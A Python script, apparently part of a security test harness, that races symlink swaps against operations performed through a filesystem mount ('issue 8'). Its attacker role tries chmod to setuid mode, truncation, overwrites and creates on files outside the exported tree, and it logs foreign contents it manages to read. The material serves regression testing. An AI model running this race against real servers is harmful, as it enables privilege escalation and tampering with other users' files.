# Race loops (issue 8): a user who can write SRC swaps symlinks in and out
# on SRC while it acts on the same names through the mount, for SECONDS or
# until MAX attempts, whichever comes first.
#   swap SRC_DIR FILE_TARGET DIR_TARGET SECONDS
#                                      SRC_DIR/f1/f flips between a fresh regular
#                                      file and a symlink to FILE_TARGET, and
#                                      SRC_DIR/d between a fresh directory
#                                      holding f and a symlink to DIR_TARGET (a
#                                      directory holding f)
#   attack OP MNT_DIR SECONDS MAX STOP OP on MNT_DIR/f1/f and MNT_DIR/d/f in turn,
#                                      then creates STOP (SRC_DIR/.stop) to stop
#                                      the swapper
# Every directory the swappers make is fresh, so that a kernel inode the
# server's answers made bad (a symlink's attributes for a file) never blocks
# the next attempts.
import os, sys, time

role = sys.argv[1]
OWN = b'own file of the hostile user\n'


def deadline(seconds):
    return time.monotonic() + float(seconds)


def fresh_file(path):
    fd = os.open(path, os.O_CREAT | os.O_TRUNC | os.O_WRONLY, 0o644)
    os.write(fd, OWN)
    os.close(fd)


def remove_tree(d):
    for n in os.listdir(d):
        p = f'{d}/{n}'
        (os.rmdir if os.path.isdir(p) and not os.path.islink(p) else os.unlink)(p)
    os.rmdir(d)


if role == 'swap':
    src_dir, file_target, dir_target, end = sys.argv[2], sys.argv[3], sys.argv[4], deadline(sys.argv[5])
    f, tmp, ltmp = f'{src_dir}/f1/f', f'{src_dir}/f1/.tmp', f'{src_dir}/f1/.ltmp'
    d, new, n, junk, errors = f'{src_dir}/d', f'{src_dir}/.new', 0, 0, 0

    def aside(p):
        global junk
        junk += 1
        os.rename(p, f'{src_dir}/.junk-{junk}')  # the attacker may be creating files in it

    if not os.path.islink(d):
        aside(d)
        os.symlink(dir_target, d)
    while time.monotonic() < end and (n & 63 or not os.path.exists(f'{src_dir}/.stop')):
        try:
            fresh_file(tmp)
            os.rename(tmp, f)  # f1/f: a fresh regular file
            os.mkdir(new)
            fresh_file(f'{new}/f')
            rename_exchange(new, d)  # d: a fresh directory holding f
            time.sleep(0.0001)  # hold the state a moment (and leave the CPU to the others)
            os.symlink(file_target, ltmp)
            os.rename(ltmp, f)  # f1/f: a symlink to the outside file
            rename_exchange(new, d)  # d: the symlink to the outside directory again
            try:
                remove_tree(new)
            except OSError:
                aside(new)  # something was created in it meanwhile
        except OSError:  # a step lost a race with the attacker's creates: start the cycle over
            errors += 1
            if not os.path.islink(d) and os.path.lexists(new):
                rename_exchange(new, d)  # the symlink back at d
            for p in (new, ltmp):
                if os.path.lexists(p):
                    aside(p)
        time.sleep(0.0001)
        n += 1
    fresh_file(tmp)
    os.rename(tmp, f)
    if os.path.islink(d):
        os.unlink(d)
        os.mkdir(d)
        fresh_file(f'{d}/f')
    note('errors', errors)
    note('swaps', n)
    note('junk', junk)
    finish()
else:
    op, mnt_dir, end, most, stop = sys.argv[2], sys.argv[3], deadline(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    # The unswapped directories are held open: each attempt looks up only the swapped names.
    f1fd = os.open(f'{mnt_dir}/f1', os.O_RDONLY | os.O_DIRECTORY)
    ufd = os.open(mnt_dir, os.O_RDONLY | os.O_DIRECTORY)
    targets = [f'/proc/self/fd/{f1fd}/f', f'/proc/self/fd/{ufd}/d/f']
    seen = set()

    def do_open(p):
        fd = os.open(p, os.O_RDWR | os.O_NONBLOCK)
        try:
            data = os.pread(fd, 64, 0)
            if data != OWN and data not in seen and len(seen) < 20:
                seen.add(data)
                REPORT['notes']['read'].append(data.decode('latin-1'))
            os.pwrite(fd, b'#', 0)
        finally:
            os.close(fd)

    def do_create(p, i):
        if p.endswith('/d/f'):
            q = f'{p[:-2]}/new-{i}'  # a new name under the swapped parent
            create_at(q)  # left there: the swapper removes its directories
        else:
            os.close(os.open(p, os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o644))  # O_CREAT of the swapped name

    ops = {
        'chmod': lambda p, i: os.chmod(p, 0o6777),
        'truncate': lambda p, i: os.truncate(p, 0),
        'utimes': lambda p, i: os.utime(p, ns=(i, i)),
        'open': lambda p, i: do_open(p),
        'create': do_create,
    }
    fn, i = ops[op], 0
    while i < most and (i & 63 or time.monotonic() < end):
        attempt(f'{op} {"parent" if i & 1 else "file"}', fn, targets[i & 1], i)
        i += 1
    create_at(stop)  # on SRC: the swapper stops too
    finish()
